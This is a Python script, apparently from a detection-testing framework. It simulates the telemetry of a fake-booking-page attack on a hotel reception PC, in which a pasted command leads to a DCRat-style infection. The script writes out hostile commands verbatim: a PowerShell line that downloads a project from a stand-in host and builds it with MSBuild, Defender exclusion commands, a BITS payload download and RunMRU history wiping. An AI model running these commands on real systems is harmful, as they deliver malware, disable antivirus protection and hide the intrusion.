"""A booking page at a hotel's reception shows a blue screen and has a command pasted: MSBuild builds a fetched project,
asks for rights until it has them, and DCRat settles in aspnet_compiler. Resembles the PHALT#BLYX pages of 2025-2026."""
import deeds
from scenery import EXPLORER, Desktop

SETTING = {"start": "2026-01-14T22:38:09", "user": "RECEPTION01\\portineria", "home": "C:\\Users\\portineria",
           "computer": "RECEPTION01"}
SITE, SERVER = ("192.0.2.201", 443), ("203.0.113.35", 3535)
PROJECT = r"C:\ProgramData\v.proj"
MSBUILD = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe"
POWERSHELL = r"C:\WINDOWS\system32\WindowsPowerShell\v1.0\PowerShell.exe"
EXCLUSIONS = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions"
POLICY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System"
DROPPED = r"C:\ProgramData\staxs.exe"
TASK = "MicrosoftEdgeUpdateTaskMachineUAX"
PASTED = ("start https://booking-guest.example/r?id=88;"
          "$m=(gci \"$env:windir\\Microsoft.NET\" -r -fi msbuild.exe|select -l 1).fullname;"
          "iwr https://2fa-bns.example/v -o C:\\ProgramData\\v.proj;&$m C:\\ProgramData\\v.proj")


def paste(c, desktop):
    c.host(SITE[0], "2fa-bns.example")
    with deeds.told(c, "a pasted command fetches a project and has it built", "high", ("T1204.004", "T1059.001"), (),
                    ("v.proj", "RunMRU", "2fa-bns.example")) as helpers:
        c.set_value(desktop.explorer, EXPLORER + r"\RunMRU\b", "REG_SZ", "powershell -c " + PASTED + "\\1")
        power = deeds.tool(c, desktop.explorer, '"%s" -c %s' % (POWERSHELL, PASTED), directory=c.home + "\\")
        helpers.append(power)
    browser = c.spawn(power, r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
                      '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --single-argument '
                      "https://booking-guest.example/r?id=88", **deeds.MICROSOFT)
    for name in ("Framework", r"Framework\v4.0.30319", "Framework64", r"Framework64\v4.0.30319"):
        deeds.list_folder(c, power, "C:\\Windows\\Microsoft.NET\\" + name)
    with c.behaviour("PowerShell fetches the project", "medium", "T1105", power, ("v.proj", "2fa-bns.example")):
        desktop.resolve()
        c.exchange(power, SITE, 50510, [517, 190], [1460] * 6)
        c.drop(power, PROJECT, 8400)
    return power, browser


def build(c, desktop, power):
    with deeds.told(c, "MSBuild runs code of a project in ProgramData", "high", "T1127.001", power,
                    ("v.proj", "MSBuild")) as helpers:
        msbuild = c.spawn(power, MSBUILD, '"%s" %s' % (MSBUILD, PROJECT), **deeds.MICROSOFT)
        c.load(msbuild, r"C:\Windows\System32\mscoree.dll")
        c.read(msbuild, PROJECT, 8400)
        helpers.append(msbuild)
    with deeds.told(c, "asks the user for rights again and again", "medium", ("T1548.002", "T1548"), (power, msbuild),
                    ("RunAs", "runas", "consent")) as helpers:
        appinfo = c.system(r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Appinfo",
                           parent=desktop.services)
        for number in range(3):
            asked = deeds.tool(c, msbuild,
                               'powershell.exe -w h -c "Start-Process -Verb RunAs \'%s\' \'%s\'"' % (MSBUILD, PROJECT))
            consent = deeds.tool(c, appinfo, "consent.exe 5188 %d 000001D0A4C3E2B0" % (320 + number))
            c.wait(6)
            c.exit(consent)
            helpers.append(asked)
            if number < 2:
                c.exit(asked, 1)
        high = c.spawn(asked, MSBUILD, '"%s" %s' % (MSBUILD, PROJECT), integrity="High", **deeds.MICROSOFT)
        c.read(high, PROJECT, 8400)
        c.exit(asked)
        helpers.append(high)
    c.exit(msbuild)
    return msbuild, high


def prepare(c, desktop, doers):
    high = doers[-1]
    with deeds.told(c, "asks which antivirus is there", "low", "T1518.001", doers,
                    ("AntivirusProduct", "SecurityCenter2")) as helpers:
        helpers += deeds.command(c, high, "powershell.exe -NoP -c \"(Get-CimInstance -Namespace root/SecurityCenter2 "
                                 "-ClassName AntivirusProduct).displayName\"", shell=False)
    with deeds.told(c, "exempts ProgramData and file endings from Defender", "high", "T1685", doers,
                    ("xclusion",)) as helpers:
        for option, kind, value in (("ExclusionPath", "Paths", r"C:\ProgramData"),
                                    ("ExclusionExtension", "Extensions", "exe"),
                                    ("ExclusionExtension", "Extensions", "proj")):
            tool = deeds.tool(c, high, "powershell.exe -NoP -w h -c Add-MpPreference -%s '%s' -Force" % (option, value))
            c.set_value(desktop.defender, EXCLUSIONS + "\\" + kind + "\\" + value, "REG_DWORD", 0)
            c.exit(tool)
            helpers.append(tool)
    bits = c.system(r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
                    parent=desktop.services)
    with deeds.told(c, "has BITS fetch a program into ProgramData", "high", ("T1197", "T1105"), doers,
                    ("BitsTransfer", "staxs.exe")) as helpers:
        tool = deeds.tool(c, high, "powershell.exe -NoP -w h -c \"Import-Module BitsTransfer; Start-BitsTransfer "
                          "-Source https://2fa-bns.example/s -Destination $env:ProgramData\\staxs.exe\"")
        c.load(tool, r"C:\Windows\System32\BitsProxy.dll")
        c.exchange(bits, SITE, 50520, [517, 300], [14_600] * 8)
        c.drop(bits, r"C:\ProgramData\BIT5D1E.tmp", 310_000)
        c.rename(bits, r"C:\ProgramData\BIT5D1E.tmp", DROPPED)
        c.exit(tool)
        helpers.append(tool)
    link = c.home + r"\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\DeleteApp.url"
    with c.behaviour("an Internet shortcut in the Startup folder", "high", ("T1547.001", "T1547.009"), doers,
                     "DeleteApp.url"):
        c.drop(high, link, 96)
    return bits


def settle(c, desktop, doers):
    high = doers[-1]
    rat = c.spawn(high, DROPPED, DROPPED, version="1.0.0.0")
    deeds.begin(c, rat)
    with c.behaviour("a task under the browser update's name", "high", ("T1053.005", "T1036.004"), doers + (rat,),
                     (TASK, "UAX")):
        c.load(rat, r"C:\Windows\System32\taskschd.dll")
        deeds.task(c, desktop, TASK, 31)
    with c.behaviour("elevation asks no more", "high", ("T1548.002", "T1112"), doers + (rat,), "ConsentPromptBehaviorAdmin"):
        c.key(rat, POLICY)
        c.set_value(rat, POLICY + r"\ConsentPromptBehaviorAdmin", "REG_DWORD", 0)
    compiler = r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\aspnet_compiler.exe"
    with deeds.told(c, "fills a bare aspnet_compiler", "high", ("T1055.012", "T1055"), doers + (rat,),
                    "aspnet_compiler") as helpers:
        host = c.spawn(rat, compiler, compiler, is_64bit=False, **deeds.MICROSOFT)
        deeds.thread(c, host)
        c.load(host, r"C:\Windows\SysWOW64\mscoree.dll")
        c.load(host, r"C:\Windows\SysWOW64\amsi.dll")
        helpers.append(host)
    c.exit(rat)
    with c.behaviour("the filled process speaks to its server at an odd port", "high", ("T1571", "T1095", "T1071"),
                     (rat, host), ("3535", SERVER[0])):
        for number in range(4):
            c.exchange(host, SERVER, 50530 + number, [230, 90], [64, 800])
            c.wait(20)
    log = c.home + r"\AppData\Roaming\dclogs\2026-01-14-4.dc"
    with c.behaviour("writes a log of keys", "medium", "T1056.001", (rat, host), ("dclogs", "2026-01-14-4.dc")):
        c.folder(host, c.home + r"\AppData\Roaming\dclogs")
        c.drop(host, log, 74)
        size = 74
        for length in (31, 18, 44, 23, 60, 12, 39, 27):
            c.open(host, log, 0x120116, 3, 1, 0x60, 1)
            c.write_at(host, log, size, length)
            c.close(host, log)
            size += length
            c.wait(8)
    return rat, host


def tidy(c, doers):
    high = doers[-1]
    with deeds.told(c, "clears the list of pasted commands", "medium", ("T1070.003", "T1070", "T1112"), doers,
                    "RunMRU") as helpers:
        shell = deeds.tool(c, high,
                           r"cmd.exe /c reg delete HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU /va /f")
        reg = deeds.tool(c, shell, r"reg delete HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU /va /f")
        for value in ("a", "b", "MRUList"):
            c.delete_value(reg, EXPLORER + "\\RunMRU\\" + value)
        c.exit(reg)
        c.exit(shell)
        helpers += [shell, reg]
    with c.behaviour("deletes its project", "medium", "T1070.004", doers, "v.proj"):
        c.delete(high, PROJECT)
    c.exit(high)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(8)
    power, browser = paste(c, desktop)
    msbuild, high = build(c, desktop, power)
    desktop.murmur(3)
    doers = (power, msbuild, high)
    prepare(c, desktop, doers)
    settle(c, desktop, doers)
    desktop.murmur(4)
    tidy(c, doers)
    c.exit(power)
    c.exit(browser)
    desktop.murmur(5)
